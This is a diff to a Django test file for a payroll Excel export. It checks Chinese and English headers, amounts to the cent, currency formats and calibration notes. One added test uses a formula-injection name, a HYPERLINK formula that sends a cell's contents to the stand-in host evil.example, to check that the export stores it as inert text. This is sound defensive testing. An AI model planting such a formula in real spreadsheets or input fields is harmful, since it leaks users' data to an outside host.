@@ -9,6 +9,7 @@ from __future__ import annotations
 import io
 import re
 from decimal import Decimal
+from typing import Any
 
 import pytest
 from django.test import Client
@@ -136,19 +137,46 @@ def monthly_cycle(people: People) -> Cycle:
     return cs.cycle_compute(cycle=cycle, by=people.hr)
 
 
-def test_the_payroll_workbook_holds_every_pay_amount_to_the_cent(
-    people: People, monthly_cycle: Cycle
-) -> None:
-    response = signed_in(people.hr).get(f"/cycles/{monthly_cycle.pk}/results.xlsx")
+def payroll(client: Client, cycle: Cycle) -> Any:
+    response = client.get(f"/cycles/{cycle.pk}/results.xlsx")
     assert response.status_code == 200
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
-    book = load_workbook(io.BytesIO(response.content))
-    sheet = book["results"]
+    return load_workbook(io.BytesIO(response.content))
+
+
+def by_agent(sheet: Any) -> dict[str, dict[str, Any]]:
     header = [c.value for c in sheet[1]]
-    rows = {
+    return {
         r[0]: dict(zip(header, r, strict=True))
         for r in sheet.iter_rows(min_row=2, values_only=True)
     }
+
+
+def test_the_payroll_workbook_holds_every_pay_amount_to_the_cent(
+    people: People, monthly_cycle: Cycle
+) -> None:
+    book = payroll(signed_in(people.hr), monthly_cycle)
+    assert book.sheetnames == ["考核结果", "指标明细", "考核周期"]
+    sheet = book["考核结果"]
+    header = [c.value for c in sheet[1]]
+    # Chinese columns; the pay line under its name in the scheme (实际绩效金额), not its id.
+    assert header == [
+        "工号",
+        "姓名",
+        "班组",
+        "结果版本",
+        "参加考核",
+        "总分",
+        "等级",
+        "校准前等级",
+        "排名",
+        "级别",
+        "实际绩效金额",
+        "绩效工资合计",
+        "校准说明",
+        "标记",
+    ]
+    rows = by_agent(sheet)
     assert set(rows) == {"A001", "A002", "B001"}
 
     def cents(value: object) -> Decimal:
@@ -167,18 +195,61 @@ def test_the_payroll_workbook_holds_every_pay_amount_to_the_cent(
     }
     for agent_id, (total, pay) in expected.items():
         row = rows[agent_id]
-        assert row["total"] == total
-        assert cents(row["performance_pay"]) == Decimal(pay)
-        assert cents(row["pay_total"]) == Decimal(pay)
+        assert row["总分"] == total and row["参加考核"] == "是"
+        assert cents(row["实际绩效金额"]) == Decimal(pay)
         # Excel keeps no more than the cents: nothing left over from an unrounded product.
-        assert Decimal(str(row["pay_total"])) == Decimal(pay)
-    assert rows["A001"]["name"] == "张三" and rows["B001"]["team"] == "二组"
+        assert Decimal(str(row["绩效工资合计"])) == Decimal(pay)
+    assert rows["A001"]["姓名"] == "张三" and rows["B001"]["班组"] == "二组"
     # The sum payroll pays out: 1160.50 + 435.55 + 217.78 = 1813.83.
-    assert sum(cents(r["pay_total"]) for r in rows.values()) == Decimal("1813.83")
-    about = {r[0]: r[1] for r in book["cycle"].iter_rows(values_only=True)}
-    assert about["cycle"] == "十月月度考核" and about["published"] == "no (draft results)"
-    explained = [r for r in book["indicators"].iter_rows(values_only=True) if r[0] == "A001"]
-    assert any(r[1] == "new_customers" and r[5] == 10 for r in explained)
+    assert sum(cents(r["绩效工资合计"]) for r in rows.values()) == Decimal("1813.83")
+    # Money shows as yuan to the cent (¥1,160.50), the header and the ids stay while scrolling.
+    money_columns = [sheet.cell(row=1, column=c).value for c in (11, 12)]
+    assert money_columns == ["实际绩效金额", "绩效工资合计"]
+    for col in (11, 12):
+        assert {sheet.cell(row=r, column=col).number_format for r in (2, 3, 4)} == {'"¥"#,##0.00'}
+    assert sheet.freeze_panes == "C2"
+    # 绩效工资合计 is 6 Chinese characters, 12 columns wide, + 2 of margin.
+    assert sheet.column_dimensions["L"].width == 14
+    about = {r[0]: r[1] for r in book["考核周期"].iter_rows(min_row=2, values_only=True)}
+    assert about["考核名称"] == "十月月度考核" and about["已发布"] == "否（草稿结果）"
+    explained = [r for r in book["指标明细"].iter_rows(values_only=True) if r[0] == "A001"]
+    assert any(r[2] == "new_customers" and r[6] == 10 for r in explained)
+
+
+def test_the_payroll_workbook_is_english_for_an_english_reader(
+    people: People, monthly_cycle: Cycle
+) -> None:
+    client = signed_in(people.hr)
+    client.post("/i18n/setlang/", {"language": "en"})
+    book = payroll(client, monthly_cycle)
+    assert book.sheetnames == ["Results", "Indicators", "Cycle"]
+    header = [c.value for c in book["Results"][1]]
+    assert header[:3] == ["Agent ID", "Name", "Team"] and "Pay total" in header
+
+
+def test_the_calibration_reason_is_in_the_payroll_row(
+    people: People, cycle: Cycle, advance: Advance
+) -> None:
+    advance(cycle, "calibration")
+    # A001 scored 72 (合格); HR raises the grade with a reason.
+    cs.cycle_calibrate(
+        cycle=cycle, by=people.hr, agent=people.agent_a1, grade="称职", note="大促期间顶班"
+    )
+    row = by_agent(payroll(signed_in(people.hr), cycle)["考核结果"])["A001"]
+    assert (row["等级"], row["校准前等级"], row["校准说明"]) == ("称职", "合格", "大促期间顶班")
+
+
+def test_a_name_that_is_a_formula_is_stored_as_text_in_the_payroll_workbook(
+    people: People, monthly_cycle: Cycle
+) -> None:
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"工资条")'
+    people.agent_a1.name = evil
+    people.agent_a1.save(update_fields=["name"])
+    book = payroll(signed_in(people.hr), monthly_cycle)
+    for sheet in (book["考核结果"], book["指标明细"]):
+        cells = [c for c in sheet["B"] if c.value == evil]
+        # A string with Excel's quote prefix: shown as typed, never evaluated.
+        assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
 
 
 def test_only_hr_exports_payroll(people: People, monthly_cycle: Cycle) -> None:
